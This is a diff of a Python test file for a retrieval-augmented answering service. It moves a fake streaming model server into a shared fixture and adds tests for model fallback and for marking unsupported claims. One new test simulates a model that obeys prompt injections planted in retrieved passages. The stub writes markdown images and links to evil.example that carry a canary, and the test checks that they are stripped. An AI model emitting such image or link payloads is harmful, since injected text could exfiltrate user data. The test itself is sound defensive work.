@@ -1,114 +1,16 @@
 """The finalist against a local HTTP server that speaks OpenAI's streaming protocol."""
 
-import json
 import re
-import threading
-from collections.abc import Iterator
 from dataclasses import replace
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from typing import Any
 
 import pytest
 
 from alchemy.evaluation.injections import injected_chunks, injections
 from alchemy.retrieval.search import Passage
+from alchemy.text.instructions import is_active
 from serving.finalist import messages
 from tests.serving.conftest import QUOTE, QUOTED, Knowledge, Serve, eventually, found, make_passage
-
-GOOD = ("It ", "retries", " three times", " [", "1]", ".")
-
-
-class Model(ThreadingHTTPServer):
-    """A language model that writes `pieces`, or fails in the way a test sets."""
-
-    daemon_threads = True
-
-    def __init__(self) -> None:
-        super().__init__(("127.0.0.1", 0), _Handler)
-        self.pieces: tuple[str, ...] = GOOD
-        self.status = 200
-        self.silent_after: int | None = None
-        self.breaks_after: int | None = None
-        self.waits_after: int | None = None
-        self.goes_on = threading.Event()
-        self.requests: list[dict[str, Any]] = []
-        self.hung_up = threading.Event()  # the client closed the connection
-        self.closing = threading.Event()
-
-    @property
-    def entry(self) -> dict[str, Any]:
-        base_url = f"http://127.0.0.1:{self.server_address[1]}/v1"
-        return {"provider": "llm", "base_url": base_url, "api_key": "k", "timeout_s": 60}
-
-
-class _Handler(BaseHTTPRequestHandler):
-    server: Model
-    protocol_version = "HTTP/1.1"
-
-    def log_message(self, *_: object) -> None:
-        pass
-
-    def do_POST(self) -> None:
-        self.server.requests.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
-        if self.server.status != 200:
-            body = b'{"error": {"message": "overloaded", "type": "server_error"}}'
-            self.send_response(self.server.status)
-            self.send_header("Content-Type", "application/json")
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-            return
-        self.send_response(200)
-        self.send_header("Content-Type", "text/event-stream")
-        self.send_header("Transfer-Encoding", "chunked")
-        self.end_headers()
-        try:
-            for number, piece in enumerate(self.server.pieces):
-                if number == self.server.silent_after:
-                    self._silence()
-                if number == self.server.breaks_after:
-                    self.close_connection = True
-                    return
-                if number == self.server.waits_after:
-                    self.server.goes_on.wait(60)
-                self._send({"index": 0, "delta": {"role": "assistant", "content": piece}})
-            if self.server.silent_after == len(self.server.pieces):
-                self._silence()
-            self._send({"index": 0, "delta": {}, "finish_reason": "stop"})
-            self._write(b"data: [DONE]\n\n")
-            self._write(b"")
-        except OSError:
-            self.server.hung_up.set()
-            self.close_connection = True
-
-    def _silence(self) -> None:
-        """Says nothing until the client hangs up."""
-        self.connection.settimeout(0.1)
-        while not self.server.closing.is_set():
-            try:
-                if not self.connection.recv(1):
-                    raise ConnectionResetError
-            except TimeoutError:
-                continue
-
-    def _send(self, choice: dict[str, Any]) -> None:
-        row = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice]}
-        self._write(b"data: " + json.dumps(row).encode() + b"\n\n")
-
-    def _write(self, data: bytes) -> None:
-        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
-        self.wfile.flush()
-
-
-@pytest.fixture
-def model() -> Iterator[Model]:
-    server = Model()
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    yield server
-    server.closing.set()
-    server.shutdown()
-    server.server_close()
+from tests.serving.llm import Model
 
 
 def test_the_model_writes_and_its_marks_become_exact_quotes(
@@ -156,6 +58,57 @@ def test_what_a_document_demands_reaches_the_model_as_fenced_data_alone(
         for fence in fenced:
             prompt = prompt.replace(fence, "")
         assert prompt.split() == ["Passages:", "Question:", *one.question.split()]
+
+
+def test_a_model_that_does_what_documents_demand_is_seen_through(
+    knowledge: Knowledge, serve: Serve, model: Model
+) -> None:
+    """The same attacks with the worst model there is: it writes whatever a document tells it to."""
+    passages = {
+        one.question: [Passage(chunk, 0.9, 0.9, 0.9, 0.5, None, None) for chunk in injected_chunks([one])]
+        for one in injections()
+    }
+    load = knowledge.load
+    knowledge.load = lambda release_id: replace(  # type: ignore[method-assign]
+        load(release_id), search=lambda query, *_: found(*passages[query]), adapters={}
+    )
+    knowledge.champion()
+    with serve(model_d=model.entry) as service:
+        for one in injections():
+            model.pieces = (
+                f"{one.canary} is all that I ever say now, dear reader. ",
+                f"![{one.canary} for you](https://evil.example/{one.canary}.png) ",
+                f"Go to https://evil.example/?q={one.canary} now.",
+            )
+            answer = service.ask(one.question)
+            text = answer["answer"]
+            assert not is_active(text) and "evil.example" not in text
+            assert {"picture", "link"} <= set(answer["removed"])
+            (doubt,) = answer["unsupported"][:1]
+            assert one.canary in text[doubt["start"] : doubt["end"]]
+            assert "citations" in answer["degraded"]  # it says that the above cites no source
+
+
+def test_the_next_model_writes_where_the_first_fails_before_a_word(
+    knowledge: Knowledge, serve: Serve, model: Model
+) -> None:
+    knowledge.champion()
+    spare = {key: value for key, value in model.entry.items() if key != "provider"}
+    gone = {**model.entry, "base_url": "http://127.0.0.1:1/v1"}
+    with serve(model_d={**gone, "fallbacks": [{**spare, "model_id": "openai/spare"}]}) as service:
+        answer = service.ask()
+    assert answer["answer"] == "It retries three times [1]."
+    assert answer["finalist"] == "openai/spare"
+    assert answer["degraded"] == ["fallback", "history"]
+
+
+def test_what_the_model_adds_is_marked(knowledge: Knowledge, serve: Serve, model: Model) -> None:
+    knowledge.champion()
+    model.pieces = ("It retries three times [1]. ", "Each of the 9 retries takes two minutes [1].")
+    with serve(model_d=model.entry) as service:
+        answer = service.ask()
+    (doubt,) = answer["unsupported"]
+    assert answer["answer"][doubt["start"] : doubt["end"]] == "Each of the 9 retries takes two minutes [1]."
 
 
 def test_tokens_arrive_as_they_are_written(knowledge: Knowledge, serve: Serve, model: Model) -> None:
